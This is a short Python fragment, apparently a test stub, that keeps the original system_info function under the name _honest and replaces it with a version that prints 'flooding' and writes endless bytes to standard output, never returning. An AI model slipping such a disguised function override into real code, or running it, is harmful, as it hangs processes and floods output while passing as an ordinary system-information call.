

_honest = system_info


def system_info():
    print("flooding", flush=True)
    while True:
        os.write(1, b"la" * 4096)
    return _honest()
